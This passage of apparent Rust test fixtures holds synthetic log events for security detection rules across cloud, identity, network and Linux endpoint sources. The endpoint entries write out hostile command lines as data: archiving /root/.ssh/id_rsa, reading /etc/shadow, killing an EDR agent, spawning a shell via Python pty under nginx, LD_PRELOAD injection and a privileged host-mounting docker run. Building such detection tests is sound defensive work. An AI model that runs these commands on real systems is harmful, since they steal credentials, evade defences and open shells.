        r#"{"azure.signinlogs.properties.token_protection_status_details.sign_in_session_status":"unbound","azure.signinlogs.properties.device_detail.device_id":"{G}","azure.signinlogs.properties.device_detail.operating_system":"Windows 10","azure.signinlogs.properties.authentication_processing_details":"Oauth Scope Info: [\"user_impersonation\"]","azure.signinlogs.properties.authentication_requirement":"singleFactorAuthentication","azure.signinlogs.properties.token_issuer_type":"AzureAD","azure.signinlogs.properties.conditional_access_status":"notApplied","azure.signinlogs.properties.app_id":"{G}"}"#,
    ),
    nt(
        "azure.auditlogs",
        "azure",
        r#"{"event.action":"Update conditional access policy","azure.auditlogs.operation_name":"Update conditional access policy","azure.auditlogs.properties.initiated_by.user.userPrincipalName":"ops-{V}@example.com"}"#,
    ),
    nt(
        "azure.auditlogs",
        "azure",
        r#"{"event.action":"Add service principal credentials","azure.auditlogs.operation_name":"Add service principal credentials","azure.auditlogs.properties.target_resources.0.display_name":"app-{V}","azure.auditlogs.properties.initiated_by.user.id":"{G}"}"#,
    ),
    nt(
        "azure.auditlogs",
        "azure",
        r#"{"event.action":"User has elevated their access to User Access Administrator for their Azure Resources","azure.auditlogs.operation_name":"User has elevated their access to User Access Administrator for their Azure Resources","azure.auditlogs.properties.initiated_by.user.userPrincipalName":"ops-{V}@example.com"}"#,
    ),
    nt(
        "azure.platformlogs",
        "azure",
        r#"{"event.action":"SecretGet","azure.platformlogs.identity.claim.upn":"ops-{V}@example.com","azure.platformlogs.properties.id":"https://kv-prod.vault.azure.net/secrets/db-password"}"#,
    ),
    nt(
        "azure.platformlogs",
        "azure",
        r#"{"event.action":"GetBlob","azure.platformlogs.identity.type":"SAS","azure.platformlogs.properties.userAgentHeader":"AzCopy/10.24.0 Linux","azure.platformlogs.statusCode":200,"azure.platformlogs.properties.accountName":"st{V}"}"#,
    ),
    nt(
        "azure.graphactivitylogs",
        "azure",
        r#"{"event.type":["access"],"azure.graphactivitylogs.result_signature":200,"azure.graphactivitylogs.properties.c_idtyp":"user","azure.graphactivitylogs.properties.client_auth_method":0,"http.request.method":"GET","http.response.status_code":200,"url.domain":"graph.microsoft.com","url.path":"/v1.0/me/messages","azure.graphactivitylogs.properties.app_id":"{G}","azure.graphactivitylogs.properties.user_principal_object_id":"4f1c2d3e-0000-4000-8000-00000000abcd"}"#,
    ),
    nt(
        "azure.graphactivitylogs",
        "azure",
        r#"{"http.request.method":"PATCH","http.response.status_code":200,"url.domain":"graph.microsoft.com","url.path":"/v1.0/policies/authenticationMethodsPolicy/authenticationMethodConfigurations/ExternalAuth","azure.graphactivitylogs.properties.user_principal_object_id":"{G}"}"#,
    ),
    nt(
        "azure.aadgraphactivitylogs",
        "azure",
        r#"{"azure.aadgraphactivitylogs.properties.actor_type":"User","azure.aadgraphactivitylogs.properties.app_id":"{G}","user.id":"4f1c2d3e-0000-4000-8000-00000000abcd"}"#,
    ),
    nt(
        "entityanalytics_entra_id.device",
        "none",
        r#"{"event.provider":"Microsoft Entra ID","host.name":"DESKTOP-{V}","host.id":"{G}","host.os.version":"10.0.19045.2006"}"#,
    ),
    nt(
        "entityanalytics_entra_id.device",
        "none",
        r#"{"event.provider":"Microsoft Entra ID","host.name":"DESKTOP-R{V}","host.id":"{G}-r","host.os.version":"10.0.19041.928"}"#,
    ),
    // Azure thresholds: account lockouts (password spraying), AKS calls
    // refused, backups and storage deleted in a row.
    thr(
        30,
        "azure.signinlogs",
        "signin",
        r#"{"event.outcome":"failure","azure.signinlogs.result_signature":"FAILURE","azure.signinlogs.properties.authentication_requirement":"singleFactorAuthentication","azure.signinlogs.properties.status.error_code":50053,"azure.signinlogs.properties.user_principal_name":"user{I}@example.com","user.name":"user{I}@example.com"}"#,
    ),
    thr(
        4,
        "azure.platformlogs",
        "azure",
        r#"{"event.action":"Microsoft.ContainerService/managedClusters/diagnosticLogs/Read","azure.platformlogs.category":"kube-audit","azure.platformlogs.properties.log.stage":"ResponseComplete","azure.platformlogs.properties.log.responseStatus.code":403,"azure.platformlogs.properties.log.responseStatus.reason":"Forbidden","azure.platformlogs.properties.log.user.username":"dev-{V}@example.com","azure.platformlogs.properties.log.objectRef.resource":"{W}","azure.resource.id":"/SUBSCRIPTIONS/5F3A/RESOURCEGROUPS/PROD/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/PROD-AKS"}"#,
    ),
    thr(
        3,
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.COMPUTE/RESTOREPOINTCOLLECTIONS/DELETE","azure.activitylogs.operation_name":"MICROSOFT.COMPUTE/RESTOREPOINTCOLLECTIONS/DELETE","azure.activitylogs.identity.claims_initiated_by_user.name":"ops-{V}@example.com","azure.resource.name":"RPC-{I}","azure.activitylogs.resource.id":"/SUBSCRIPTIONS/5F3A/RESOURCEGROUPS/PROD/PROVIDERS/MICROSOFT.COMPUTE/RESTOREPOINTCOLLECTIONS/RPC-{I}"}"#,
    ),
    thr(
        3,
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.COMPUTE/SNAPSHOTS/DELETE","azure.activitylogs.operation_name":"MICROSOFT.COMPUTE/SNAPSHOTS/DELETE","azure.activitylogs.properties.status_code":"Accepted","azure.activitylogs.identity.claims_initiated_by_user.name":"ops-{V}@example.com","azure.resource.name":"SNAP-{I}"}"#,
    ),
    thr(
        5,
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.STORAGE/STORAGEACCOUNTS/DELETE","azure.activitylogs.operation_name":"MICROSOFT.STORAGE/STORAGEACCOUNTS/DELETE","azure.activitylogs.identity.claims_initiated_by_user.name":"ops-{V}@example.com","azure.resource.name":"STDATA{I}"}"#,
    ),
    // Google Cloud (GKE audit, IAM).
    nt(
        "gcp.audit",
        "gcp",
        r#"{"event.action":"io.k8s.core.v1.secrets.get","user_agent.original":"python-requests/2.31.0","client.user.email":"system:serviceaccount:default:app-{V}","gcp.audit.resource_name":"core/v1/namespaces/default/secrets/db"}"#,
    ),
    nt(
        "gcp.audit",
        "gcp",
        r#"{"event.action":"io.k8s.core.v1.secrets.list","gcp.audit.resource_name":"core/v1/namespaces/kube-system/secrets"}"#,
    ),
    nt(
        "gcp.audit",
        "gcp",
        r#"{"event.action":"io.k8s.core.v1.pods.list","event.outcome":"failure","client.user.email":"dev@example.com","user.email":"dev@example.com","user_agent.original":"kubectl-{V}/v1.29.1 (linux/amd64)","gcp.audit.resource_name":"core/v1/namespaces/kube-system/pods"}"#,
    ),
    nt(
        "gcp.audit",
        "gcp",
        r#"{"event.action":"io.k8s.core.v1.pods.exec.create","orchestrator.resource.name":"web-7f9c"}"#,
    ),
    nt(
        "gcp.audit",
        "gcp",
        r#"{"event.action":"io.k8s.core.v1.namespaces.list","client.user.email":"system:anonymous","user.email":"system:anonymous","user_agent.original":"Go-http-client/1.1 ({V})","gcp.audit.resource_name":"core/v1/namespaces"}"#,
    ),
    nt(
        "gcp.audit",
        "gcp",
        r#"{"event.action":"io.k8s.apps.v1.daemonsets.create","gcp.audit.resource_name":"apps/v1/namespaces/kube-system/daemonsets/node-agent"}"#,
    ),
    nt(
        "gcp.audit",
        "gcp",
        r#"{"service.name":"iam.googleapis.com","event.action":"google.iam.admin.v1.SetIAMPolicy","user.id":"{D}","gcp.audit.service_data.policy_delta.binding_deltas":[{"action":"ADD","role":"roles/iam.serviceAccountTokenCreator","member":"user:ops-{V}@example.com"}]}"#,
    ),
    // GitHub audit.
    nt(
        "github.audit",
        "github",
        r#"{"event.action":"git.clone","github.repository_public":false,"github.repo":"example-org/payments"}"#,
    ),
    nt(
        "github.audit",
        "github",
        r#"{"event.action":"git.push","user.name":"github-actions[bot]","github.repo":"example-org/svc-{V}","github.repository_public":false}"#,
    ),
    nt(
        "github.audit",
        "github",
        r#"{"event.action":"org.register_self_hosted_runner","github.runner_name":"runner-{V}"}"#,
    ),
    // GitHub threshold: many private repositories cloned with one token.
    thr(
        10,
        "github.audit",
        "github",
        r#"{"event.action":"git.clone","github.programmatic_access_type":"Fine-grained personal access token","github.repository_public":false,"github.hashed_token":"tok{V}","github.repo":"example-org/service-{I}"}"#,
    ),
    // Google Workspace.
    nt(
        "google_workspace.token",
        "gws",
        r#"{"event.action":"authorize","google_workspace.token.scope.value":["openid","https://www.googleapis.com/auth/userinfo.email"],"google_workspace.token.client.id":"81234-{V}.apps.googleusercontent.com","google_workspace.token.app_name":"Notes {V}"}"#,
    ),
    nt(
        "google_workspace.device",
        "gws",
        r#"{"event.action":"DEVICE_REGISTER_UNREGISTER_EVENT","google_workspace.device.account_state":"REGISTERED","google_workspace.device.type":"ANDROID"}"#,
    ),
    // Kubernetes audit.
    nt(
        "kubernetes.audit_logs",
        "k8s",
        r#"{"kubernetes.audit.objectRef.resource":"secrets","kubernetes.audit.requestURI":"/api/v1/namespaces/default/secrets"}"#,
    ),
    nt(
        "kubernetes.audit_logs",
        "k8s",
        r#"{"kubernetes.audit.user.username":"system:serviceaccount:default:app","kubernetes.audit.annotations.authorization_k8s_io/decision":"forbid","kubernetes.audit.objectRef.resource":"nodes","kubernetes.audit.verb":"list","kubernetes.audit.requestURI":"/api/v1/nodes"}"#,
    ),
    nt(
        "kubernetes.audit_logs",
        "k8s",
        r#"{"kubernetes.audit.verb":"create","kubernetes.audit.objectRef.resource":"selfsubjectrulesreviews","kubernetes.audit.user.username":"system:serviceaccount:default:web","kubernetes.audit.requestURI":"/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"}"#,
    ),
    nt(
        "kubernetes.audit_logs",
        "k8s",
        r#"{"kubernetes.audit.user.username":"system:anonymous","kubernetes.audit.user.groups":["system:unauthenticated"],"kubernetes.audit.requestURI":"/api/v1/namespaces"}"#,
    ),
    nt(
        "kubernetes.audit_logs",
        "k8s",
        r#"{"kubernetes.audit.verb":"create","kubernetes.audit.objectRef.resource":"daemonsets","kubernetes.audit.requestURI":"/apis/apps/v1/namespaces/kube-system/daemonsets"}"#,
    ),
    // Microsoft 365 audit.
    nt(
        "o365.audit",
        "o365",
        r#"{"event.provider":"Exchange","event.category":["web"],"event.action":"MailItemsAccessed","o365.audit.LogonType":"0","o365.audit.OperationProperties":[{"Name":"MailAccessType","Value":"Bind"}],"o365.audit.ClientAppId":"{G}"}"#,
    ),
    nt(
        "o365.audit",
        "o365",
        r#"{"event.provider":"SharePoint","event.action":"FileDownloaded","user_agent.original":"Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041"}"#,
    ),
    nt(
        "o365.audit",
        "o365",
        r#"{"event.provider":"Exchange","event.action":"New-InboxRule","o365.audit.Parameters.SubjectContainsWords":"invoice;payment","o365.audit.Parameters.MoveToFolder":"Deleted Items"}"#,
    ),
    nt(
        "o365.audit",
        "o365",
        r#"{"event.action":"UserLoggedIn","event.category":["authentication"],"o365.audit.Target":[{"ID":"00000002-0000-0000-c000-000000000000","Type":0}],"o365.audit.ApplicationId":"89bee1f7-5e6e-4d8a-9f3d-ecd601259da7","o365.audit.ExtendedProperties.RequestType":"OAuth2:Authorize"}"#,
    ),
    nt(
        "o365.audit",
        "o365",
        r#"{"event.action":"Consent to application.","o365.audit.Actor":[{"ID":"ops@example.com","Type":5}],"o365.audit.Target":[{"ID":"app-{V}","Type":0}],"o365.audit.ObjectId":"app-{V}"}"#,
    ),
    nt(
        "o365.audit",
        "o365",
        r#"{"event.action":"UserLoggedIn","o365.audit.ExtendedProperties.RequestType":"Cmsi:Cmsi","o365.audit.Actor":[{"ID":"ops@example.com","Type":0}],"o365.audit.ApplicationId":"29d9ed98-a469-4536-ade2-f981bc1d605e","o365.audit.Target":[{"ID":"00000003-0000-0000-c000-000000000000","Type":0}],"o365.audit.DeviceProperties":[{"Name":"IsCompliant","Value":"False"}]}"#,
    ),
    nt(
        "o365.audit",
        "o365",
        r#"{"event.code":"AzureActiveDirectoryStsLogon","event.action":"UserLoggedIn","user_agent.original":"BAV2ROPC"}"#,
    ),
    nt(
        "o365.audit",
        "o365",
        r#"{"event.action":"UserLoginFailed","event.category":["authentication"],"event.outcome":"failure","o365.audit.ErrorNumber":"50012"}"#,
    ),
    nt(
        "o365.audit",
        "o365",
        r#"{"event.provider":"Exchange","event.action":"Add-MailboxPermission","o365.audit.Parameters.AccessRights":"FullAccess","o365.audit.Parameters.Identity":"ceo@example.com"}"#,
    ),
    // Microsoft 365 threshold: one user logged in from two countries.
    thr(
        2,
        "o365.audit",
        "o365",
        r#"{"event.action":"UserLoggedIn","event.category":["authentication"],"o365.audit.Target":[{"ID":"00000002-0000-0000-c000-000000000000","Type":0}],"o365.audit.ApplicationId":"89bee1f7-5e6e-4d8a-9f3d-ecd601259da7","o365.audit.ExtendedProperties.RequestType":"OAuth2:Authorize"}"#,
    ),
    // Okta.
    nt(
        "okta.system",
        "okta",
        r#"{"event.action":"app.oauth2.as.token.grant","okta.event_type":"app.oauth2.as.token.grant","event.outcome":"failure","okta.actor.type":"PublicClientApp","okta.actor.display_name":"reporting-{V}","okta.outcome.result":"FAILURE","okta.outcome.reason":"no_matching_scope","okta.client.user_agent.raw_user_agent":"python-requests/2.31.0","okta.debug_context.debug_data.flattened.grantType":"client_credentials","okta.debug_context.debug_data.flattened.requestedScopes":"okta.users.read"}"#,
    ),
    nt(
        "okta.system",
        "okta",
        r#"{"event.action":"user.session.start","okta.event_type":"user.session.start","okta.security_context.is_proxy":true,"cloud.account.id":"example.okta.com"}"#,
    ),
    nt(
        "okta.system",
        "okta",
        r#"{"event.action":"user.authentication.auth_via_IDP","okta.event_type":"user.authentication.auth_via_IDP","okta.authentication_context.issuer.id":"0oa{V}","okta.authentication_context.issuer.type":"SAML2"}"#,
    ),
    nt(
        "okta.system",
        "okta",
        r#"{"event.action":"user.authentication.sso","okta.event_type":"user.authentication.sso","okta.client.device":"Unknown"}"#,
    ),
    // Okta thresholds: an account locked repeatedly, one device signing in
    // as several users behind a proxy, one device with two operating
    // systems, password resets in a row, several sessions of one user.
    thr(
        3,
        "okta.system",
        "okta",
        r#"{"event.action":"user.account.lock","okta.event_type":"user.account.lock","event.outcome":"failure","okta.actor.alternate_id":"victim-{V}@example.com"}"#,
    ),
    thr(
        3,
        "okta.system",
        "okta",
        r#"{"event.action":"user.authentication.sso","okta.event_type":"user.authentication.sso","okta.security_context.is_proxy":true,"okta.actor.id":"00uspray{I}","okta.debug_context.debug_data.dt_hash":"dtproxy{V}"}"#,
    ),
    thr(
        2,
        "okta.system",
        "okta",
        r#"{"event.action":"user.authentication.verify","okta.event_type":"user.authentication.verify","user_agent.os.name":"{O}","okta.debug_context.debug_data.dt_hash":"dtos{V}"}"#,
    ),
    thr(
        5,
        "okta.system",
        "okta",
        r#"{"event.action":"system.email.password_reset.sent_message","okta.event_type":"system.email.password_reset.sent_message","okta.actor.alternate_id":"helpdesk-{V}@example.com"}"#,
    ),
    thr(
        3,
        "okta.system",
        "okta",
        r#"{"event.action":"user.session.start","okta.event_type":"user.session.start","okta.actor.id":"00usess{V}","okta.actor.display_name":"Sam Example","okta.authentication_context.external_session_id":"idx{V}{I}"}"#,
    ),
    // Network traffic (Packetbeat / network_traffic).
    nt(
        "network_traffic.nfs",
        "net",
        r#"{"network_traffic.nfs.rpc.cred.uid":0,"network_traffic.nfs.rpc.auth_flavor":"unix","destination.ip":"10.0.2.21","destination.port":2049}"#,
    ),
    nt(
        "network_traffic.icmp",
        "net",
        r#"{"network.transport":"icmp","network_traffic.icmp.request.type":8,"icmp.request.type":8,"network.bytes":1024,"destination.port":null,"source.port":null}"#,
    ),
    nt(
        "network_traffic.tls",
        "net",
        r#"{"network.protocol":"tls","tls.established":true,"tls.version":"1.0","tls.version_protocol":"tls","tls.cipher":"TLS_RSA_WITH_3DES_EDE_CBC_SHA"}"#,
    ),
    nt(
        "network_traffic.mongodb",
        "net",
        r#"{"network.protocol":"mongodb","network_traffic.mongodb.method":"dropDatabase","client.ip":"{L}","server.ip":"10.0.2.50","destination.ip":"10.0.2.50","destination.port":27017}"#,
    ),
    nt(
        "network_traffic.memcached",
        "net",
        r#"{"network.protocol":"memcache","client.ip":"{L}","server.ip":"10.0.2.30","destination.ip":"10.0.2.30","destination.port":11211,"network_traffic.memcached.request.command":"set","network_traffic.memcached.response.type":"Success"}"#,
    ),
    nt(
        "network_traffic.flow",
        "net",
        r#"{"event.action":"network_flow","source.ip":"{P}","destination.ip":"10.0.2.21","destination.port":445}"#,
    ),
    nt(
        "network_traffic.flow",
        "net",
        r#"{"event.action":"network_flow","destination.port":445}"#,
    ),
    nt(
        "network_traffic.thrift",
        "net",
        r#"{"network.protocol":"thrift","client.ip":"{P}","source.ip":"{P}","server.ip":"10.0.2.40","destination.ip":"10.0.2.40","destination.port":9090,"network_traffic.thrift.method":"getUser"}"#,
    ),
    nt(
        "nginx.access",
        "none",
        r#"{"agent.id":"agent-{V}","agent.type":"filebeat","http.version":"1.0","http.request.method":"GET","http.response.status_code":200,"url.original":"/login","source.ip":"{P}"}"#,
    ),
    nt(
        "fortinet_fortigate.log",
        "none",
        r#"{"event.code":"0100044547","fortinet.firewall.cfgpath":"system.admin","fortinet.firewall.action":"Add","fortinet.firewall.ui":"GUI({P})","observer.vendor":"Fortinet"}"#,
    ),
    // Network thresholds: a host sweeping a subnet for SMB, a port scan.
    thr(
        100,
        "network_traffic.flow",
        "net",
        r#"{"event.action":"network_flow","source.ip":"10.1.4.17","destination.ip":"10.30.1.{I}","destination.port":445,"network.packets":2}"#,
    ),
    thr(
        250,
        "network_traffic.flow",
        "net",
        r#"{"event.action":"network_flow","source.ip":"10.1.4.40","destination.ip":"10.0.2.21","destination.port":"{K}","network.packets":1}"#,
    ),
    // Linux endpoint: processes, command lines, parents, files and logins
    // new to a host.
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"xclip","process.executable":"/usr/bin/xclip","process.args":["xclip","-selection","clipboard","-o"],"process.command_line":"xclip -selection clipboard -o","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"arecord","process.executable":"/usr/bin/arecord","process.args":["arecord","-d","60","/tmp/.a.wav"],"process.command_line":"arecord -d 60 /tmp/.a.wav","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"scrot","process.executable":"/usr/bin/scrot","process.args":["scrot","/tmp/.s.png"],"process.command_line":"scrot /tmp/.s.png","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"aws","process.executable":"/usr/local/bin/aws","process.args":["aws","s3","ls","--endpoint-url","https://s3.storage-{V}.example.net"],"process.command_line":"aws s3 ls --endpoint-url https://s3.storage-{V}.example.net","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"aws","process.executable":"/usr/local/bin/aws","process.args":["aws","ssm","send-command","--document-name","AWS-RunShellScript","--parameters","commands=id","--targets","Key=instanceids,Values=i-0abc"],"process.command_line":"aws ssm send-command --document-name AWS-RunShellScript --parameters commands=id --targets Key=instanceids,Values=i-0abc","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"tar","process.executable":"/usr/bin/tar","process.args":["tar","-czf","/tmp/.k.tgz","/root/.ssh/id_rsa"],"process.command_line":"tar -czf /tmp/.k.tgz /root/.ssh/id_rsa","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"chmod","process.executable":"/usr/bin/chmod","process.working_directory":"/tmp","process.args":["chmod","+x","/tmp/.run.sh"],"process.command_line":"chmod +x /tmp/.run.sh","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"user.name":"daemon","user.id":"1","process.interactive":true,"process.name":"bash","process.executable":"/var/tmp/.{V}/bash","process.args":["bash","-i"],"process.command_line":"bash -i","process.parent.name":"atd","process.parent.executable":"/usr/sbin/atd"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"pkill","process.executable":"/usr/bin/pkill","process.args":["pkill","-f","edr-agent"],"process.command_line":"pkill -f edr-agent","process.parent.name":"loader","process.parent.executable":"/tmp/.{V}/loader"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"bash","process.executable":"/usr/bin/bash","process.args":["bash","-c","LD_PRELOAD=/tmp/.x.so id"],"process.command_line":"bash -c LD_PRELOAD=/tmp/.x.so id","process.parent.name":"python3","process.parent.executable":"/usr/bin/python3"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"ln","process.executable":"/usr/bin/ln","process.args":["ln","-s","/usr/bin/bash","/tmp/.sh-{V}"],"process.command_line":"ln -s /usr/bin/bash /tmp/.sh-{V}","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"id","process.executable":"/usr/bin/id","process.args":["id"],"process.command_line":"id","process.env_vars":["LD_PRELOAD=/tmp/.lib-{V}.so"],"process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"lsmod","process.executable":"/opt/tools-{V}/lsmod","process.args":["lsmod"],"process.command_line":"lsmod","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"docker","process.executable":"/usr/bin/docker","process.args":["docker","run","--privileged","-v","/:/host","alpine"],"process.command_line":"docker run --privileged -v /:/host alpine","process.parent.name":"deploy","process.parent.executable":"/tmp/.{V}/deploy"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"sh","process.executable":"/usr/bin/sh","process.args":["sh","-c","/tmp/.m &"],"process.command_line":"sh -c /tmp/.m &","process.parent.name":"updater-{V}","process.parent.executable":"/opt/updater-{V}"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"nohup","process.executable":"/usr/bin/nohup","process.args":["nohup","/tmp/.m-{V}"],"process.args_count":2,"process.command_line":"nohup /tmp/.m-{V}","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"mkfifo","process.executable":"/usr/bin/mkfifo","process.args":["mkfifo","/tmp/.p{V}"],"process.command_line":"mkfifo /tmp/.p{V}","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.entry_leader.entry_meta.type":"container","process.interactive":true,"process.name":"bash","process.executable":"/bin/bash","process.args":["bash"],"process.command_line":"bash","process.parent.name":"node-{V}","process.parent.executable":"/usr/local/bin/node-{V}"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"kw{V}","process.executable":"/tmp/.kw{V}","process.args":["/tmp/.kw{V}","--cron"],"process.command_line":"/tmp/.kw{V} --cron","process.parent.name":"kthreadd","process.parent.executable":"/usr/bin/kthreadd"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"sh","process.executable":"/usr/bin/sh","process.args":["sh","-c","PATH=/tmp/.b:/usr/bin x"],"process.command_line":"sh -c PATH=/tmp/.b:/usr/bin x","process.parent.name":"runner-{V}","process.parent.executable":"/opt/runner-{V}"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"pkexec","process.executable":"/usr/bin/pkexec","process.args":["pkexec","/bin/sh"],"process.command_line":"pkexec /bin/sh","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash","process.parent.command_line":"bash /tmp/.{V}/exp.sh"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"dpkg","process.executable":"/usr/bin/dpkg","process.args":["dpkg","-i","/tmp/.pkg.deb"],"process.command_line":"dpkg -i /tmp/.pkg.deb","process.parent.name":"installer","process.parent.executable":"/tmp/.{V}/installer"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"rpm","process.executable":"/usr/bin/rpm","process.args":["rpm","-i","/tmp/.pkg.rpm"],"process.command_line":"rpm -i /tmp/.pkg.rpm","process.parent.name":"installer","process.parent.executable":"/tmp/.{V}/installer"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"systemctl","process.executable":"/usr/bin/systemctl","process.args":["systemctl","enable","sync-agent"],"process.args_count":3,"process.command_line":"systemctl enable sync-agent","process.entry_leader.entry_meta.type":"sshd","process.parent.name":"setup","process.parent.executable":"/opt/.{V}/setup","process.parent.pid":4200}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"sh","process.executable":"/var/spool/.{V}/sh","process.args":["sh"],"process.command_line":"sh","process.parent.name":"exim4","process.parent.executable":"/usr/sbin/exim4"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"agent","process.executable":"/tmp/.{V}/agent","process.args":["/tmp/.{V}/agent","-q"],"process.args_count":2,"process.command_line":"/tmp/.{V}/agent -q","process.parent.name":"sshd","process.parent.executable":"/usr/sbin/sshd","process.parent.args":["/usr/sbin/sshd","-D"]}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"python3","process.executable":"/usr/bin/python3","process.args":["python3","-c","import pty;pty.spawn('/bin/sh')"],"process.command_line":"python3 -c import pty;pty.spawn('/bin/sh')","process.working_directory":"/usr/share/nginx","process.parent.name":"nginx","process.parent.executable":"/usr/sbin/nginx"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"sh","process.executable":"/usr/bin/dash","process.args":["sh","-c","id;uname -a"],"process.command_line":"sh -c id;uname -a","process.working_directory":"/usr/share/nginx","process.parent.name":"nginx","process.parent.executable":"/usr/sbin/nginx"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"reader-{V}","process.executable":"/opt/.{V}/reader","process.args":["reader","/etc/shadow"],"process.command_line":"reader /etc/shadow","process.thread.capabilities.permitted":["CAP_DAC_READ_SEARCH"],"process.thread.capabilities.effective":["CAP_DAC_READ_SEARCH"],"process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"event.type":["change"],"event.action":"uid_change","user.id":"0","user.name":"root","process.name":"python3","process.executable":"/usr/bin/python3","process.command_line":"python3 /tmp/.{V}.py","process.working_directory":"/tmp","process.parent.name":"bash","process.parent.working_directory":"/tmp","process.parent.user.id":"1001","process.parent.group.id":"1001"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"event.type":["change"],"event.action":"uid_change","user.id":"0","user.name":"root","process.name":"exp","process.executable":"/var/tmp/.{V}/exp","process.command_line":"/var/tmp/.{V}/exp","process.parent.name":"bash","process.parent.executable":"/usr/bin/bash"}"#,
    ),
    nt(
        "endpoint.events.network",
        "linux",
        r#"{"event.category":["network"],"event.type":["start"],"event.action":"connection_attempted","process.name":"kworker/u8:2","process.executable":"/tmp/.kworker","destination.ip":"{P}","destination.port":8443,"source.ip":"10.0.1.11","source.port":40404,"network.transport":"tcp"}"#,
    ),
    nt(
        "endpoint.events.network",
        "linux",
        r#"{"event.category":["network"],"event.type":["start"],"event.action":"connection_attempted","process.name":"beacon","process.executable":"/tmp/.{V}/beacon","destination.ip":"{P}","destination.port":443,"source.ip":"52.14.3.7","source.port":40405,"network.transport":"tcp"}"#,
    ),
    nt(
        "endpoint.events.process",
        "linux",
        r#"{"process.name":"recon","process.executable":"/tmp/.{V}/recon","process.args":["recon","whoami"],"process.command_line":"recon whoami","process.parent.name":"loader-{V}","process.parent.executable":"/tmp/.{V}/loader"}"#,
    ),
    nt(
        "endpoint.events.network",
        "linux",
        r#"{"event.category":["network"],"event.type":["start"],"event.action":"lookup_requested","process.name":"node","process.executable":"/usr/bin/node","dns.question.name":"c2-{V}.example.net","dns.question.type":"A"}"#,
    ),
    nt(
        "endpoint.events.network",
        "linux",
        r#"{"event.category":["network"],"event.type":["start"],"event.action":"connection_attempted","process.name":"curl","process.executable":"/tmp/.{V}/curl","destination.ip":"169.254.169.254","destination.address":"169.254.169.254","destination.port":80,"source.ip":"10.0.1.11","network.transport":"tcp"}"#,
    ),
    nt(
        "endpoint.events.file",
        "linux",
        r#"{"event.category":["file"],"event.type":["creation"],"event.action":"creation","process.name":"cp","process.executable":"/usr/bin/cp","file.path":"/tmp/.cache-{V}","file.name":".cache-{V}"}"#,
    ),
    nt(
        "endpoint.events.file",
        "linux",
        r#"{"event.category":["file"],"event.type":["creation"],"event.action":"creation","process.name":"logwipe","process.executable":"/tmp/.{V}/logwipe","file.path":"/var/log/.journal-{V}","file.name":".journal-{V}"}"#,
    ),
    nt(
        "endpoint.events.file",
        "linux",
        r#"{"event.category":["file"],"event.type":["creation"],"event.action":"creation","process.name":"agent","process.executable":"/tmp/.{V}/agent","file.path":"/var/run/agent-{V}.pid","file.name":"agent-{V}.pid","file.extension":"pid"}"#,
    ),
    nt(
        "endpoint.events.file",
        "linux",
        r#"{"event.category":["file"],"event.type":["creation"],"event.action":"creation","process.name":"scp","process.executable":"/usr/bin/scp","user.id":"1001","file.path":"/tmp/payload-{V}","file.name":"payload-{V}"}"#,
    ),
    nt(
        "endpoint.events.file",
        "linux",
